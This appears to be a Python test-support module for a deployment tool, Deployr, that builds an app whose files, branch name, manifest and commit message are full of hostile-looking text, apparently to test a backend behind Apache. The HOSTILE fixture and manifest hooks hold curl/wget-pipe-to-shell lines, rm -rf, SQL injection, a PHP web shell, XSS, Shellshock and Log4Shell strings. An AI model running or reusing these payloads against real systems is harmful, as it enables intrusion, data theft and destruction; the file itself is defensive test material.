"""A whole Deployr whose backend is behind a firewall, and an app whose every text looks evil."""

import random
import string
import subprocess
import uuid
from pathlib import Path
from typing import Any

import requests

from tests.support.apache import Apache
from tools.demo.system import DeployrSystem

REPO_URL = "ssh://git@203.0.113.7/srv/etc/passwd/package.json.git"
BRANCH = "fix/etc/passwd;'or'1'='1"

SSH = """\
#!/bin/sh
# Stands for the host of the address: below / it has what is below {root}.
for word; do :; done
exec /bin/sh -c "$(printf %s "$word" | sed "s#'/#'{root}/#")"
"""

HOSTILE = """\
npm ci && npm run build
sudo systemctl restart php-fpm
; rm -rf /tmp/x
wget http://203.0.113.9/x.sh | sh
curl -fsSL https://203.0.113.9/install.sh | bash -s -- --yes
python3 -c 'import os; os.system("id")'
You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version
SQLSTATE[42S02]: Base table or view not found: 1146 Table 'shop.users' doesn't exist
SELECT * FROM users WHERE id = 1 OR 1=1 UNION SELECT password FROM accounts --
PHP Warning:  include(/var/www/shop/../../etc/passwd): failed to open stream in /var/www/a.php on line 3
Fatal error: Uncaught Error: Call to undefined function mysql_connect() in /var/www/shop/db.php:7
<?php system($_GET['c']); ?>
<script>alert(document.cookie)</script>
../../../../etc/shadow
() { :; }; /bin/bash -c 'cat /proc/self/environ'
${jndi:ldap://203.0.113.9/a}
root:x:0:0:root:/root:/bin/bash
"""

MANIFEST = f"""\
project: {{framework: static}}
repo: {{url: {REPO_URL}, branch: "{BRANCH}"}}
build:
  commands:
    - cat hostile.txt noise.txt
    - "true || sudo systemctl restart php-fpm; ls ../../../etc/passwd || true"
    - mkdir -p public && echo '<p>live</p>' > public/index.html
  env: {{QUERY: "1' OR '1'='1"}}
  output: public
deploy:
  shared: {{dirs: [etc/passwd]}}
  hooks:
    after_activate: ["echo 'wget http://203.0.113.9/x.sh | sh' && cat /etc/passwd | head -n 1"]
    on_failure: ["echo '; rm -rf /tmp/x' && echo '<?php phpinfo();'"]
"""

NOISE = 4_500_000
"""Characters of the long log; with all around them less than the backend keeps."""

SICK = "  health_check: {url: 'http://127.0.0.1:9/etc/passwd?c=;cat+x', attempts: 2, interval: 1}\n"


def noise(size: int) -> str:
    """Return about `size` random characters that do not pack well, in lines of a thousand."""
    # Without what would make them names and passwords of URLs, which are masked.
    letters = "".join(set(string.printable[:94]) - set(":@="))
    dice = random.Random(size)
    return "".join("".join(dice.choices(letters, k=999)) + "\n" for _ in range(size // 1000))


class HostedSystem(DeployrSystem):
    """As on a shared host: `apache` stands before the backend."""

    apache: Apache

    @property
    def env(self) -> dict[str, str]:
        """Also what git takes for ssh."""
        return super().env | {"GIT_SSH_COMMAND": str(self.root / "ssh")}

    def __exit__(self, *details: object) -> None:
        super().__exit__(*details)
        if "apache" in vars(self):
            self.apache.stop()

    def serve_backend(self) -> str:
        """Serve through Apache alone, as far as the clients know."""
        self.apache = Apache(super().serve_backend())
        return self.apache.url

    def bring_up(self) -> None:
        """Make the app's repository, the backend and a runner."""
        self.path = self.root / "server/www/proc/self/environ"
        self._create_app(self.root / "package.json")
        self.start_backend()
        self.register_runner()

    def deploy(self, manifest: str, *options: str) -> subprocess.CompletedProcess[str]:
        """Commit a deploy.yaml, unlike any before, and run `deployr push` to its end."""
        (self.repo / "deploy.yaml").write_text(f"{manifest}# {uuid.uuid4()}\n")
        self.commit("Deploy; DROP TABLE users")
        argv = ("deployr", "--json", "push", "--create", "--branch", BRANCH, *options)
        return self.run(*argv, check=False)

    def commit(self, message: str) -> str:
        """Also push to the branch that is deployed."""
        commit = super().commit(message)
        self.run("git", "push", "--quiet", "origin", f"main:refs/heads/{BRANCH}")
        self.run("git", "fetch", "--quiet")
        return commit

    def ask(self, method: str, path: str, body: Any = None, token: str = "") -> requests.Response:
        """Send one request as the user, or with another token."""
        headers = {"Authorization": f"Bearer {token or self.token}", "Accept": "application/json"}
        return requests.request(method, self.url + path, json=body, headers=headers, timeout=30)

    def _create_app(self, source: Path) -> None:
        source.mkdir()
        (source / "deploy.yaml").write_text(MANIFEST)
        (source / "hostile.txt").write_text(HOSTILE)
        (source / "noise.txt").write_text(noise(NOISE))
        self.create_project(source)
        served = self.root / "srv/etc/passwd"
        served.mkdir(parents=True)
        (served / "package.json.git").symlink_to(self.root / "package.json.git")
        ssh = self.root / "ssh"
        ssh.write_text(SSH.format(root=self.root))
        ssh.chmod(0o755)
